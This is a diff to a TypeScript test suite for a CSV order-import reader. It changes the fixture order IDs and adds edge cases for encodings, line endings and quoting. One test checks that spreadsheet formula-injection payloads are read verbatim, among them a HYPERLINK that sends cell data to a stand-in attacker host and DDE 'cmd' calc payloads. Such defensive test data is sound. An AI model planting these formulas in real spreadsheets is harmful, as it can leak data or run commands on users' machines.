@@ -89,7 +89,7 @@ describe("encodings", () => {
   it("detects UTF-16LE without a BOM and says so", async () => {
     const { info, rows } = await readAll(fixture("utf16le-no-bom.csv"));
     expect(info).toMatchObject({ encoding: "utf-16le", encodingSource: "detected", bom: false });
-    expect(column(rows, "order_id")).toEqual(["3101"]);
+    expect(column(rows, "order_id")).toEqual(["12345"]);
     expect(info.warnings).toHaveLength(1);
     expect(info.warnings[0]).toContain("UTF-16LE");
   });
@@ -122,7 +122,7 @@ describe("encodings", () => {
     expect(info.headerCells).toEqual(["Nº pedido", "Transportista", "tracking_number"]);
     expect(info.warnings[0]).toContain("line 1");
     expect(rows[0]?.values).toEqual({
-      order_id: "15001",
+      order_id: "12345",
       shipping_provider: "ups",
       tracking_number: "1Z999AA10123456784",
     });
@@ -207,13 +207,13 @@ describe("delimiters and line endings", () => {
   });
 
   it.each([
-    { name: "crlf.csv", ids: ["5101", "5102", "5103"], expectedLines: [2, 3, 5] },
+    { name: "crlf.csv", ids: ["12345", "12346", "12347"], expectedLines: [2, 3, 5] },
     {
       name: "mixed-line-endings.csv",
-      ids: ["6001", "6002", "6003", "6004"],
+      ids: ["12345", "12346", "12347", "12348"],
       expectedLines: [2, 3, 4, 5],
     },
-    { name: "cr-only.csv", ids: ["6101", "6102"], expectedLines: [2, 3] },
+    { name: "cr-only.csv", ids: ["12345", "12346"], expectedLines: [2, 3] },
   ])("reads $name with the right lines", async ({ name, ids, expectedLines }) => {
     const { rows } = await readAll(fixture(name));
     expect(column(rows, "order_id")).toEqual(ids);
@@ -229,10 +229,10 @@ describe("delimiters and line endings", () => {
   it("numbers records after embedded newlines, blank lines and quotes by their first line", async () => {
     const { rows } = await readAll(fixture("embedded-newlines.csv"));
     expect(rows.map((row) => [row.index, row.line, row.values.order_id])).toEqual([
-      [1, 2, "7001"],
-      [2, 4, "7002"],
-      [3, 7, "7003"],
-      [4, 9, "7004"],
+      [1, 2, "12345"],
+      [2, 4, "12346"],
+      [3, 7, "12347"],
+      [4, 9, "12348"],
     ]);
     expect(column(rows, "staff_notes")).toEqual([
       "first line\nsecond line",
@@ -260,16 +260,16 @@ describe("records", () => {
     ]);
     expect(rows[1]?.structureProblem?.message).toBe("expected 3 fields, found 2");
     expect(rows[2]?.structureProblem?.message).toBe("expected 3 fields, found 4");
-    expect(rows[1]?.values).toEqual({ order_id: "8002", status_id: "2" });
-    expect(rows[2]?.cells).toEqual(["8003", "2", "ok", "extra"]);
+    expect(rows[1]?.values).toEqual({ order_id: "12346", status_id: "2" });
+    expect(rows[2]?.cells).toEqual(["12347", "2", "ok", "extra"]);
     expect(info.warnings.join("\n")).toContain("first at line 3");
   });
 
   it("skips Excel's all-empty rows and says how many", async () => {
     const { info, rows } = await readAll(fixture("excel-trailing-empty-rows.csv"));
     expect(rows.map((row) => [row.index, row.line, row.values.order_id])).toEqual([
-      [1, 2, "13001"],
-      [2, 4, "13002"],
+      [1, 2, "12345"],
+      [2, 4, "12346"],
     ]);
     expect(info.rowCount).toBe(2);
     expect(info.warnings).toHaveLength(1);
@@ -280,12 +280,15 @@ describe("records", () => {
   it("reads formula payloads verbatim", async () => {
     const { rows } = await readAll(fixture("formula-payloads.csv"));
     expect(rows[0]?.values).toEqual({
-      order_id: "10001",
+      order_id: "12345",
       staff_notes: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
       customer_message: "+cmd|' /C calc'!A0",
       billing_company: "@SUM(1+1)",
     });
-    expect(rows[1]?.cells).toEqual(["10002", "-2+3", "=1+1", "=cmd|'/c calc'!A1"]);
+    expect(rows[1]?.cells).toEqual(["12346", "-2+3", "=1+1", "=cmd|'/c calc'!A1"]);
+    // Cells that start with a tab or a CR (quoted), and a full-width equals sign.
+    expect(rows[2]?.cells).toEqual(["12347", "\tTab first", "\rCR first", "\uFF1D1+2"]);
+    expect(lines(rows)).toEqual([2, 3, 4]);
   });
 
   it("reads scientific notation and leading zeros as text, untrimmed", async () => {
@@ -294,14 +297,17 @@ describe("records", () => {
       "9.40011E+21",
       "00340434161094042557",
       " 1Z999AA10123456784 ",
+      "0012",
+      "00777",
+      "9,40011E+21",
     ]);
-    expect(column(rows, "order_address_id")).toEqual(["0012", "1e3", ""]);
+    expect(column(rows, "order_address_id")).toEqual(["1001", "001009", "", "1003", "1e3", ""]);
   });
 
   it("reads a stray quote inside a field on one line as written", async () => {
     const { rows } = await readAll(fixture("relaxed-quotes.csv"));
-    expect(rows[0]?.cells).toEqual(["14001", '"Fragile" box', '5" screen']);
-    expect(rows[1]?.cells).toEqual(["14002", 'Say "hi"', "ok"]);
+    expect(rows[0]?.cells).toEqual(["12345", '"Fragile" box', '5" screen']);
+    expect(rows[1]?.cells).toEqual(["12346", 'Say "hi"', "ok"]);
   });
 
   it("rejects a quote left open mid-file at the line where it opens", async () => {
@@ -397,11 +403,11 @@ describe("header", () => {
     expect(info.headerCells).toEqual(["Order Number", "Tracking", "Carrier", "Warehouse"]);
     expect(info.columns).toEqual(["order_id", "tracking_number", "tracking_carrier", undefined]);
     expect(rows[0]?.values).toEqual({
-      order_id: "12001",
+      order_id: "12345",
       tracking_number: "1Z999AA10123456784",
       tracking_carrier: "ups",
     });
-    expect(rows[0]?.cells).toEqual(["12001", "1Z999AA10123456784", "ups", "A"]);
+    expect(rows[0]?.cells).toEqual(["12345", "1Z999AA10123456784", "ups", "A"]);
   });
 
   it("still refuses the unmapped extra column without allowExtraColumns", async () => {
@@ -424,8 +430,8 @@ describe("header", () => {
   it("keeps extra columns in cells but not in values", async () => {
     const { info, rows } = await readAll(fixture("extra-columns.csv"), { allowExtraColumns: true });
     expect(info.columns).toEqual(["order_id", undefined, "status_id", undefined]);
-    expect(rows[0]?.values).toEqual({ order_id: "12101", status_id: "2" });
-    expect(rows[0]?.cells).toEqual(["12101", "A", "2", "Ana"]);
+    expect(rows[0]?.values).toEqual({ order_id: "12345", status_id: "2" });
+    expect(rows[0]?.cells).toEqual(["12345", "A", "2", "Ana"]);
   });
 });
 
